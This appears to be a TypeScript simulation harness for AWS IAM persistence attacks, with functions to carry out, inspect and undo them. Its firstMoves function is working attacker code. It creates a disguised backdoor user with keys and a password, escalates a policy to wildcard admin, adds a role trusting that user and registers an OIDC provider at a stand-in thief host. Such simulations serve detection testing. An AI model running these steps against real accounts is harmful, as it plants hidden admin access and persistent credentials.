import * as iam from '@aws-sdk/client-iam'
import { allow, policy, trusts } from './town.ts'

/** Objects that the thief has made for himself; enough to take them away again. */
export interface Made {
  userArn: string
  userId: string
  roleArn: string
  policyArn: string
  keyId: string
  secret: string
}

/** The names that {@link firstMoves} takes. */
export const MADE = {
  user: 'svc-backup-agent',
  role: 'support-access',
  group: 'operators',
  policy: 'operators-access',
} as const

const EVERYTHING = policy(allow('*'))

/**
 * The first moves of a thief, in their order: another user with a key and a password, in a group of his
 * own with a policy of his own; a role that trusts the user; marks on both.
 */
export async function firstMoves(client: iam.IAMClient): Promise<Made> {
  const { user, role, group } = MADE
  const { User } = await client.send(
    new iam.CreateUserCommand({ UserName: user, Path: '/ops/', Tags: [{ Key: 'team', Value: 'platform' }] }),
  )
  const { AccessKey } = await client.send(new iam.CreateAccessKeyCommand({ UserName: user }))
  await client.send(
    new iam.CreateLoginProfileCommand({
      UserName: user,
      Password: 'a long enough one',
      PasswordResetRequired: false,
    }),
  )
  await client.send(new iam.UpdateLoginProfileCommand({ UserName: user, Password: 'another long one' }))
  await client.send(
    new iam.CreateServiceSpecificCredentialCommand({
      UserName: user,
      ServiceName: 'bedrock.amazonaws.com',
      CredentialAgeDays: 30,
    }),
  )
  const { Policy } = await client.send(
    new iam.CreatePolicyCommand({
      PolicyName: MADE.policy,
      Description: 'for operators',
      PolicyDocument: policy(allow('s3:Get*')),
    }),
  )
  const PolicyArn = Policy?.Arn ?? ''
  await client.send(
    new iam.CreatePolicyVersionCommand({ PolicyArn, PolicyDocument: EVERYTHING, SetAsDefault: true }),
  )
  await client.send(new iam.CreateGroupCommand({ GroupName: group, Path: '/ops/' }))
  await client.send(new iam.AttachGroupPolicyCommand({ GroupName: group, PolicyArn }))
  await client.send(
    new iam.PutGroupPolicyCommand({ GroupName: group, PolicyName: 'all', PolicyDocument: EVERYTHING }),
  )
  await client.send(new iam.AddUserToGroupCommand({ GroupName: group, UserName: user }))
  await client.send(
    new iam.PutUserPolicyCommand({ UserName: user, PolicyName: 'all', PolicyDocument: EVERYTHING }),
  )
  await client.send(new iam.AttachUserPolicyCommand({ UserName: user, PolicyArn }))
  await client.send(
    new iam.TagUserCommand({
      UserName: user,
      Tags: [
        { Key: 'break-glass', Value: 'true' },
        { Key: 'Team', Value: 'sre' },
      ],
    }),
  )
  await client.send(new iam.UntagUserCommand({ UserName: user, TagKeys: ['break-glass', 'nothing'] }))
  const { Role } = await client.send(
    new iam.CreateRoleCommand({
      RoleName: role,
      AssumeRolePolicyDocument: trusts({ AWS: User?.Arn }),
      MaxSessionDuration: 43_200,
      Description: 'support',
      Tags: [{ Key: 'team', Value: 'support' }],
    }),
  )
  await client.send(
    new iam.PutRolePolicyCommand({ RoleName: role, PolicyName: 'all', PolicyDocument: EVERYTHING }),
  )
  await client.send(new iam.TagRoleCommand({ RoleName: role, Tags: [{ Key: 'owner', Value: 'security' }] }))
  await client.send(new iam.UntagRoleCommand({ RoleName: role, TagKeys: ['team'] }))
  await client.send(new iam.UpdateRoleCommand({ RoleName: role, MaxSessionDuration: 3600 }))
  await client.send(
    new iam.CreateOpenIDConnectProviderCommand({
      Url: 'https://tokens.thief.example',
      ClientIDList: ['sts'],
    }),
  )
  return {
    userArn: User?.Arn ?? '',
    userId: User?.UserId ?? '',
    roleArn: Role?.Arn ?? '',
    policyArn: PolicyArn,
    keyId: AccessKey?.AccessKeyId ?? '',
    secret: AccessKey?.SecretAccessKey ?? '',
  }
}

/** Reads what the thief has made, as an inventory or a console does. */
export async function lookAtMoves(client: iam.IAMClient, { policyArn: PolicyArn }: Made): Promise<void> {
  const GroupName = MADE.group
  await client.send(new iam.ListGroupsCommand({}))
  await client.send(new iam.GetGroupCommand({ GroupName }))
  await client.send(new iam.ListGroupPoliciesCommand({ GroupName }))
  await client.send(new iam.GetGroupPolicyCommand({ GroupName, PolicyName: 'all' }))
  await client.send(new iam.ListAttachedGroupPoliciesCommand({ GroupName }))
  await client.send(new iam.ListPoliciesCommand({ Scope: 'Local' }))
  await client.send(new iam.ListPolicyVersionsCommand({ PolicyArn }))
  await client.send(new iam.GetLoginProfileCommand({ UserName: MADE.user }))
}

/** Takes everything away again, in the order that IAM asks for. */
export async function undoMoves(client: iam.IAMClient, { policyArn: PolicyArn, keyId }: Made): Promise<void> {
  const { user: UserName, role: RoleName, group: GroupName } = MADE
  await client.send(new iam.RemoveUserFromGroupCommand({ GroupName, UserName }))
  await client.send(new iam.DeleteGroupPolicyCommand({ GroupName, PolicyName: 'all' }))
  await client.send(new iam.DetachGroupPolicyCommand({ GroupName, PolicyArn }))
  await client.send(new iam.DeleteGroupCommand({ GroupName }))
  await client.send(new iam.DetachUserPolicyCommand({ UserName, PolicyArn }))
  await client.send(new iam.DeleteUserPolicyCommand({ UserName, PolicyName: 'all' }))
  await client.send(new iam.DeleteAccessKeyCommand({ UserName, AccessKeyId: keyId }))
  await client.send(new iam.DeleteLoginProfileCommand({ UserName }))
  const { ServiceSpecificCredentials = [] } = await client.send(
    new iam.ListServiceSpecificCredentialsCommand({ UserName }),
  )
  for (const { ServiceSpecificCredentialId } of ServiceSpecificCredentials) {
    await client.send(
      new iam.DeleteServiceSpecificCredentialCommand({ UserName, ServiceSpecificCredentialId }),
    )
  }
  await client.send(new iam.DeleteUserCommand({ UserName }))
  await client.send(new iam.SetDefaultPolicyVersionCommand({ PolicyArn, VersionId: 'v1' }))
  await client.send(new iam.DeletePolicyVersionCommand({ PolicyArn, VersionId: 'v2' }))
  await client.send(new iam.DeletePolicyCommand({ PolicyArn }))
  await client.send(new iam.DeleteRolePolicyCommand({ RoleName, PolicyName: 'all' }))
  await client.send(new iam.DeleteRoleCommand({ RoleName }))
  const { OpenIDConnectProviderList = [] } = await client.send(new iam.ListOpenIDConnectProvidersCommand({}))
  for (const { Arn } of OpenIDConnectProviderList) {
    if (Arn?.endsWith('tokens.thief.example')) {
      await client.send(new iam.DeleteOpenIDConnectProviderCommand({ OpenIDConnectProviderArn: Arn }))
    }
  }
}
